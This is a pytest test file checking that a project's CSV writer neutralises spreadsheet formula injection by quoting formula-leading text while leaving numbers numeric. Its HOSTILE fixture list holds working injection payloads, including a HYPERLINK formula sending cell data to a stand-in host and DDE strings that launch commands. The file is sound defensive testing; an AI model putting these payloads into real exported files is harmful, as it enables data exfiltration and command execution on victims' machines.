"""Every CSV the project writes opens in a spreadsheet as data: formula-leading text gets a leading quote,
numbers stay numbers (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from adapters.formats.csvsafe import FORMULA_START, csv_text, safe_cell, safe_csv_frame, write_csv
from app.cli import main
from tests.app_fixtures import NAMES, roselora_file

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _read(path: Path) -> str:
    with open(path, newline="", encoding="utf-8") as f:  # keep a CR inside a cell as written
        return f.read()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _is_formula(cell: str) -> bool:
    """Text a spreadsheet would evaluate: formula-leading and not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_START)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_gets_a_leading_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell(safe_cell(value)) == "'" + value  # a quoted cell is already safe


@pytest.mark.parametrize("value", ["-0.5", "+1.5e-3", "-3", ".5", "layers.0.q_proj", "", "a=b", "'=x", " =1"])
def test_plain_text_and_plain_numbers_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_numbers_stay_numeric_and_only_text_is_touched() -> None:
    df = pd.DataFrame({"layer": HOSTILE, "rel_error": [-0.5, -1e-9, 0.0, 2.5, -3.0, float("nan")],
                       "n": [-1, 2, -3, 4, -5, 6], "=evil": ["ok"] * 6})
    out = safe_csv_frame(df)
    assert list(out["layer"]) == ["'" + h for h in HOSTILE]
    assert out["rel_error"].dtype == float and out["n"].dtype == df["n"].dtype
    assert list(out.columns) == ["layer", "rel_error", "n", "'=evil"]
    assert df["layer"].tolist() == HOSTILE  # the input frame is not modified
    back = pd.read_csv(io.StringIO(csv_text(df)))
    assert back["rel_error"].iloc[:5].tolist() == [-0.5, -1e-9, 0.0, 2.5, -3.0] and back["n"].tolist() == df["n"].tolist()
    raw = _rows(csv_text(df))
    assert not any(_is_formula(r["layer"]) or _is_formula(r["'=evil"]) for r in raw)
    assert [r["layer"] for r in raw] == ["'" + h for h in HOSTILE]
    assert raw[0]["rel_error"] == "-0.5"  # a negative number is written as a number, not quoted


def test_index_labels_are_cells_too(tmp_path: Path) -> None:
    df = pd.DataFrame({"v": [1.0]}, index=pd.Index(["=1+1"], name="layer"))
    path = write_csv(df, tmp_path / "x.csv", index=True)
    assert _rows(_read(path)) == [{"layer": "'=1+1", "v": "1.0"}]


def test_report_csv_neutralises_hostile_layer_names(tmp_path: Path, capsys) -> None:
    ckpt = roselora_file(tmp_path / "hostile.safetensors", names=[*NAMES[:2], *HOSTILE])
    out = tmp_path / "layers.csv"
    assert main(["report", str(ckpt), "-o", str(tmp_path / "r.html"), "--csv", str(out)]) == 0, capsys.readouterr().err
    rows = _rows(_read(out))
    layers = [r["layer"] for r in rows]
    assert sorted(layers) == sorted([*NAMES[:2], *("'" + h for h in HOSTILE)])
    for r in rows:  # no cell of the file is text a spreadsheet would evaluate
        assert not any(_is_formula(v) for v in r.values()), r
    df = pd.read_csv(out)
    assert sum(pd.api.types.is_numeric_dtype(df[c]) for c in df.columns) >= 3  # the measures stay numbers


def test_compare_csvs_go_through_the_safe_writer(tmp_path: Path, capsys, monkeypatch) -> None:
    """A hostile text cell in metrics.csv and trajectory.csv comes out quoted; negative numbers stay numbers."""
    import app.commands.compare as compare

    real_row = compare.metrics_row

    def row_with_text(res, budget_rows):
        res.trajectory = res.trajectory.assign(note=HOSTILE[0])
        return {**real_row(res, budget_rows), "stopped": HOSTILE[1], "rel_error": -0.25}

    monkeypatch.setattr(compare, "metrics_row", row_with_text)
    code = main(["compare", "--task", "lowrank", "--methods", "lora", "--steps", "2", "--device", "cpu", "--quiet",
                 "-o", str(tmp_path)])
    assert code == 0, capsys.readouterr().err
    m = _rows(_read(tmp_path / "metrics.csv"))
    assert m[0]["stopped"] == "'" + HOSTILE[1] and m[0]["rel_error"] == "-0.25"
    assert isinstance(json.loads(m[0]["config"]), dict)
    t = _rows(_read(tmp_path / "trajectory.csv"))
    assert t and all(r["note"] == "'" + HOSTILE[0] for r in t)
    assert pd.read_csv(tmp_path / "metrics.csv")["rel_error"].dtype == float
